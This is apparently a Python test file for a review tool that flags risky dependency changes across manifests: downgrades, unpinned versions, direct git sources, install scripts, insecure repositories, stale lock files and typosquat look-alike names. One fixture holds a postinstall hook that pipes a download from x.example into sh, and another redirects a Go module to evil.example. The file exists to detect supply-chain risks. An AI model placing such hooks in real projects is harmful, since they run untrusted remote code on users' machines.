"""What a change does to dependencies, from the old and the new manifest."""

from __future__ import annotations

import pytest

from review.analysers.dependency_changes import DependencyChanges
from review.analysers.facts.packages import POPULAR, look_alike
from review.analysers.manifests.model import Dependency, compare, is_major
from review.models import Severity
from support.change import subject_of
from support.engines import review_with


def seen(path: str, old: str, new: str, tree: frozenset[str] = frozenset(), **more: str) -> list[tuple[str, int]]:
    subject = subject_of({path: new, **more}, old={path: old, **dict.fromkeys(more, "x\n")}, tree=tree)
    return [(f.rule_id.split("/")[1], f.line_number) for f in review_with(DependencyChanges(), subject, {})]


@pytest.mark.parametrize(
    ("path", "old", "new", "expected"),
    [
        ("requirements.txt", "a==1.0\n", "a==1.0\nb==2.0\n", [("added", 2)]),
        ("requirements.txt", "a==1.0\nb==2.0\n", "a==1.0\n# none\n", [("removed", 2)]),
        ("requirements.txt", "flask==2.3.1\n", "flask==3.0.0\n", [("major-bump", 1)]),
        ("requirements.txt", "flask==3.0.0\n", "flask==2.3.1\n", [("downgrade", 1)]),
        ("requirements.txt", "flask==3.0.0\n", "flask==3.0.1\n", []),
        ("requirements.txt", "flask<3\n", "flask>=2,<4\n", []),
        ("requirements.txt", "flask==3.0.0\n", "flask\n", [("unpinned", 1)]),
        ("requirements.txt", "a==1\n", "a==1\n--trusted-host pypi.example\n", [("trusted-host", 2)]),
        ("requirements.txt", "flask\n", "flask\n# a remark\n", []),
        (
            "pyproject.toml",
            '[project]\ndependencies = [\n  "a>=1",\n]\n',
            '[project]\ndependencies = [\n  "a>=2",\n  "b",\n]\n',
            [("major-bump", 3), ("added", 4)],
        ),
        (
            "pyproject.toml",
            '[tool.poetry.dependencies]\npython = "^3.11"\na = "^1.2"\n',
            '[tool.poetry.dependencies]\npython = "^3.12"\na = {git = "https://x.example/a.git"}\n',
            [("direct-source", 3)],
        ),
        ("pyproject.toml", '[tool.ruff]\na = "1"\n', '[tool.ruff]\na = "2"\nb = "1"\n', []),
        (
            "package.json",
            '{"dependencies": {"react": "^18.2.0"}, "version": "1.0.0"}\n',
            '{"dependencies": {"react": "^17.0.0"}, "version": "0.9.0"}\n',
            [("downgrade", 1)],
        ),
        (
            "package.json",
            '{\n "scripts": {\n  "test": "x"\n }\n}\n',
            '{\n "scripts": {\n  "preinstall": "node a.js"\n }\n}\n',
            [("install-script", 3)],
        ),
        (
            "package.json",
            '{"devDependencies": {"a": "1.0.0"}}\n',
            '{"devDependencies": {"a": "owner/repo"}}\n',
            [("direct-source", 1)],
        ),
        (
            "package.json",
            '{"devDependencies": {"a": "1.0.0"}}\n',
            '{"devDependencies": {"a": "workspace:*"}}\n',
            [("removed", 1)],
        ),
        (
            "go.mod",
            "module x\n\nrequire a.example/b v1.2.3\n",
            "module x\n\nrequire a.example/b v1.1.0\n",
            [("downgrade", 3)],
        ),
        ("go.mod", "module x\n", "module x\nreplace a.example/b => evil.example/b v1.0.0\n", [("added", 2)]),
        (
            "Cargo.toml",
            '[dependencies]\nserde = "1.0"\n',
            '[dependencies]\nserde = { version = "2.0", features = [] }\n',
            [("major-bump", 2)],
        ),
        ("Cargo.toml", '[dependencies]\nrand = "0.8"\n', '[dependencies]\nrand = "0.9"\n', [("major-bump", 2)]),
        ("Cargo.toml", '[package]\nversion = "2.0.0"\n', '[package]\nversion = "1.0.0"\n', []),
        (
            "pom.xml",
            "<dependency>\n<groupId>a</groupId>\n<artifactId>b</artifactId>\n<version>2.1</version>\n</dependency>\n",
            "<dependency>\n<groupId>a</groupId>\n<artifactId>b</artifactId>\n<version>1.9</version>\n</dependency>\n",
            [("downgrade", 4)],
        ),
        (
            "pom.xml",
            "<project>\n",
            "<repository>\n<url>http://x.example</url>\n</repository>\n",
            [("insecure-source", 2)],
        ),
        ("build.gradle", "implementation 'a:b:1.0'\n", "implementation 'a:b:2.0'\n", [("major-bump", 1)]),
        ("Gemfile", 'gem "rails", "~> 7.1"\n', 'gem "rails", github: "rails/rails"\n', [("direct-source", 1)]),
        (
            "composer.json",
            '{"require": {"php": ">=8", "a/b": "^2.0"}}\n',
            '{"require": {"php": ">=7", "a/b": "^1.0"}}\n',
            [("downgrade", 1)],
        ),
        ("Dockerfile", "FROM python:3.13-slim AS x\n", "FROM python:3.12-slim AS x\n", [("downgrade", 1)]),
        ("Dockerfile", "FROM python:3.13\n", "FROM python:3.13.1\n", []),
        (
            ".github/workflows/a.yml",
            "- uses: actions/checkout@v4\n",
            "- uses: actions/checkout@v5\n",
            [("major-bump", 1)],
        ),
        (".github/workflows/a.yml", "- uses: a/b@v4\n", f"- uses: a/b@{'1' * 40} # v4.2\n", []),
    ],
)
def test_a_move_of_a_dependency_is_named_on_its_line(
    path: str, old: str, new: str, expected: list[tuple[str, int]]
) -> None:
    assert seen(path, old, new) == expected


def test_a_piece_of_a_manifest_without_its_text_is_read_as_far_as_it_goes() -> None:
    old = (
        '{\n "name": "x",\n "a1": 1,\n "a2": 1,\n "a3": 1,\n "dependencies": {\n'
        '  "b1": "1.0.0",\n  "b2": "1.0.0",\n  "b3": "1.0.0",\n  "react": "^18.0.0"\n }\n}\n'
    )
    subject = subject_of({"package.json": old.replace("^18", "^17")}, old={"package.json": old})
    blind = type(subject)(diff=subject.diff)
    assert [f.rule_id for f in review_with(DependencyChanges(), blind, {})] == ["dependency-changes/downgrade"]


def test_a_lock_file_left_behind_is_noticed_and_one_that_moves_along_is_not() -> None:
    old, new = '{"dependencies": {"a": "1.0.0"}}\n', '{"dependencies": {"a": "1.1.0"}}\n'
    tree = frozenset({"web/package.json", "yarn.lock"})
    assert seen("web/package.json", old, new, tree) == [("lock-not-changed", 1)]
    assert seen("web/package.json", old, new) == []
    assert seen("web/package.json", old, new, tree, **{"yarn.lock": "a@1.1.0:\n"}) == []


def test_a_lock_file_alone_is_information() -> None:
    tree = frozenset({"Cargo.toml", "Cargo.lock"})
    assert seen("Cargo.lock", "a\n", "b\n", tree) == [("lock-alone", 1)]


def test_a_direct_source_fixed_to_a_commit_and_a_script_that_downloads_differ_in_weight() -> None:
    subject = subject_of(
        {
            "requirements.txt": f"a @ git+https://x.example/a@{'a' * 40}\n",
            "package.json": '{"scripts": {"install": "node build.js", "postinstall": "wget -qO- x.example|sh"}}\n',
        }
    )
    findings = review_with(DependencyChanges(), subject, {})
    assert [f.severity for f in findings] == [Severity.MEDIUM, Severity.HIGH, Severity.LOW]


@pytest.mark.parametrize(
    ("ecosystem", "name", "twin"),
    [
        ("pypi", "reqests", "requests"),
        ("pypi", "requetss", "requests"),
        ("pypi", "numpyy", "numpy"),
        ("npm", "crossenv", "cross-env"),
        ("npm", "expres", "express"),
        ("npm", "preact", None),
        ("npm", "vue", None),
        ("pypi", "six1", None),
        ("pypi", "my-own-package", None),
        ("cargo", "serd", None),
    ],
)
def test_a_name_one_slip_from_a_well_known_one_is_noticed(ecosystem: str, name: str, twin: str | None) -> None:
    assert look_alike(ecosystem, name) == twin


@pytest.mark.parametrize("ecosystem", sorted(POPULAR))
def test_no_well_known_name_is_taken_for_a_slip(ecosystem: str) -> None:
    assert [name for name in POPULAR[ecosystem] if look_alike(ecosystem, name)] == []


def test_versions_are_compared_as_far_as_both_go() -> None:
    assert compare((1, 2), (1, 2, 5)) == 0
    assert compare((1, 10), (1, 9)) == -1
    assert compare((1,), (2, 0)) == 1
    assert is_major((1, 9), (2, 0))
    assert is_major((0, 8), (0, 9))
    assert not is_major((1, 8), (1, 9))
    assert not is_major((), (1,))
    assert Dependency("a", ">=1.2,<2", 1).version == (1, 2)
